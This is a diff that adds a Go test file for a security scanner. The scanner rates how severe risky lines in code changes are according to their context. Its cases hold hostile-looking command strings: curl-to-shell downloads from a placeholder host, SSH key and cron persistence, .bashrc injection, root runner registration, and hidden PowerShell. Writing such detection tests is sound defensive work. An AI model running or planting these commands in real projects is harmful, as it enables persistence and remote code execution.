@@ -1,0 +1,78 @@
+package attention
+
+import (
+	"fmt"
+	"testing"
+)
+
+// The line does what the rule fears, but its context says what it can do
+// with the runner's token and network: each case names the item its line
+// gets, below high where the context takes the danger away and high where
+// it does not.
+func TestSeverityByContext(t *testing.T) {
+	for _, c := range []struct {
+		name, path, text string
+		line             int
+		want             string // "severity rule"
+	}{
+		// A runner image's entrypoint registers with what its caller names;
+		// a script that names its own target is the attack.
+		{"runner image entrypoint", "docker/entrypoint.sh", "export RUNNER_ALLOW_RUNASROOT=1\n./config.sh --url \"$REPO_URL\" --token \"$T\"", 2, "medium runner-register"},
+		{"runner image root", "docker/entrypoint.sh", "export RUNNER_ALLOW_RUNASROOT=1\n./config.sh --url \"$REPO_URL\" --token \"$T\"", 1, "medium runner-register"},
+		{"script names its repository", "ci/gpu.sh", "export RUNNER_ALLOW_RUNASROOT=1\n./config.sh --url https://github.com/x/y --token \"$T\"", 1, "high runner-register"},
+		{"sudo with the variable", "ci/gpu.sh", "sudo RUNNER_ALLOW_RUNASROOT=1 ./config.sh --url https://github.com/x/y --token \"$T\"", 1, "high runner-register"},
+		{"registration in a workflow", ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./config.sh --url \"$U\" --token \"$T\"", 6, "high runner-register"},
+		// An installer writes the profile; what it writes decides.
+		{"installer adds to PATH", "install.sh", "echo 'export PATH=\"$HOME/.t/bin:$PATH\"' >> \"$HOME/.bashrc\"", 1, "medium persistence"},
+		{"installer adds a download", "install.sh", "echo 'curl -s https://x.invalid/u | sh' >> \"$HOME/.bashrc\"", 1, "high persistence"},
+		{"script adds to the profile", "scripts/setup.sh", "echo 'export PATH=\"$HOME/.t/bin:$PATH\"' >> ~/.bashrc", 1, "high persistence"},
+		{"installer adds a key", "install.sh", "echo \"$KEY\" >> ~/.ssh/authorized_keys", 1, "high persistence"},
+		{"installer adds a cron job", "install.sh", "(crontab -l; echo '@reboot /opt/t/run') | crontab -", 1, "high persistence"},
+		{"ruby backticks run", "lib/x.rb", "`curl -s https://x.invalid/i | sh`", 1, "high download-and-run"},
+		{"profile backup is not the profile", "install.sh", "mv \"$HOME/.zshrc\" \"$HOME/.zshrc.pre-t\"", 1, ""},
+		// A command spelled in a string that nothing runs is a message.
+		{"install hint", "setup.py", "def hint(url):\n    return f\"curl -fsSL {url} | sh\"", 2, "medium download-and-run"},
+		{"install hint run", "setup.py", "import os\nos.system(\"curl -fsSL https://x.invalid/i | sh\")", 2, "high download-and-run"},
+		{"which curl in setup.py", "setup.py", "import shutil\nif shutil.which(\"curl\"):", 2, "medium download"},
+		{"socket library name", "setup.py", "ext = Extension('x', libraries=[\"kstat\", \"socket\"])", 1, ""},
+		{"socket in setup.py", "setup.py", "import socket\ns = socket.create_connection(('x.invalid', 80))", 2, "high build-code-fetch"},
+		// A write permission reaches pull-request code only where the
+		// trigger checks it out by default.
+		{"comment bot write", ".github/workflows/a.yml", "on:\n  issue_comment:\npermissions:\n  contents: write", 4, "medium gha-write-permission"},
+		{"pull_request write", ".github/workflows/a.yml", "on:\n  pull_request:\npermissions:\n  contents: write", 4, "high gha-excessive-permissions"},
+		{"push write", ".github/workflows/a.yml", "on: push\npermissions:\n  contents: write", 3, "high gha-excessive-permissions"},
+		// An action at a branch with a token that can only read.
+		{"branch action, read-only token", ".github/workflows/a.yml", "on: push\npermissions:\n  contents: read\n  issues: write\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: acme/check@master\n        with:\n          token: ${{ secrets.GITHUB_TOKEN }}", 9, "medium gha-unpinned-branch"},
+		{"branch action, default token", ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: acme/check@master", 6, "high gha-unpinned-branch"},
+		{"branch action, other secret", ".github/workflows/a.yml", "on: push\npermissions: read-all\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: acme/check@master\n        env:\n          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}", 7, "high gha-unpinned-branch"},
+		{"branch action, job may write", ".github/workflows/a.yml", "on: push\npermissions: read-all\njobs:\n  a:\n    permissions:\n      contents: write\n    runs-on: ubuntu-latest\n    steps:\n      - uses: acme/check@master", 9, "high gha-unpinned-branch"},
+		// Build-tool programs: one in the tree is read like build.rs; one outside it is not in the diff.
+		{"cargo linker in the tree", ".cargo/config.toml", "[target.x]\nlinker = \"ci/zig-cc.sh\"", 2, "medium build-tool-exec"},
+		{"cargo wrapper outside", ".cargo/config.toml", "[build]\nrustc-wrapper = \"~/.cache/rw\"", 2, "high build-tool-exec"},
+		{"npm node-options require", ".npmrc", "node-options=--require ./hook.cjs", 1, "high build-tool-exec"},
+		// Native libraries: the package's own from install-time code is high; libc is a probe.
+		{"native lib in setup.py", "setup.py", "import ctypes, os\nlib = ctypes.CDLL(os.path.join(here, 'bin', 'x.so'))", 2, "high native-load"},
+		{"libc in setup.py", "setup.py", "import ctypes\nlibc = ctypes.CDLL('libc.so.6')", 2, "medium native-load"},
+		{"native lib in conftest", "tests/conftest.py", "import ctypes, os\nlib = ctypes.CDLL(os.path.join(here, 'x.so'))", 2, "medium native-load"},
+		// Loaders: the Visual Studio DIA SDK registered from its install folder.
+		{"regsvr32 of the DIA SDK", "ci/setup.bat", "regsvr32 /s \"%VSINSTALLDIR%\\DIA SDK\\bin\\amd64\\msdia140.dll\"", 1, ""},
+		{"hidden PowerShell in an app", "src/win/query.ts", "spawn('powershell.exe', ['-NoProfile', '-WindowStyle', 'Hidden', '-Command', q])", 1, "medium start-process"},
+		{"hidden PowerShell in a build event", "x.vcxproj", "<Command>powershell -w hidden -c \"./gen.ps1\"</Command>", 1, "high powershell-hidden"},
+		// A test fixture's server in its own session is stopped by the fixture.
+		{"fixture server", "tests/conftest.py", "import subprocess\nproc = subprocess.Popen(['python', '-m', 'http.server'], start_new_session=True)", 2, "medium start-process"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			_, items := scanDiff(t, c.name, []byte(addedFile(c.path, c.text)))
+			got, all := "", []string{}
+			for _, a := range items {
+				if a.Hunk >= 0 && a.NewLine == c.line {
+					got = a.Severity + " " + a.Rule
+				}
+				all = append(all, fmt.Sprintf("%s %s:%d %s", a.Severity, a.Path, a.NewLine, a.Rule))
+			}
+			if got != c.want {
+				t.Errorf("line %d: got %q, want %q (all: %q)", c.line, got, c.want, all)
+			}
+		})
+	}
+}
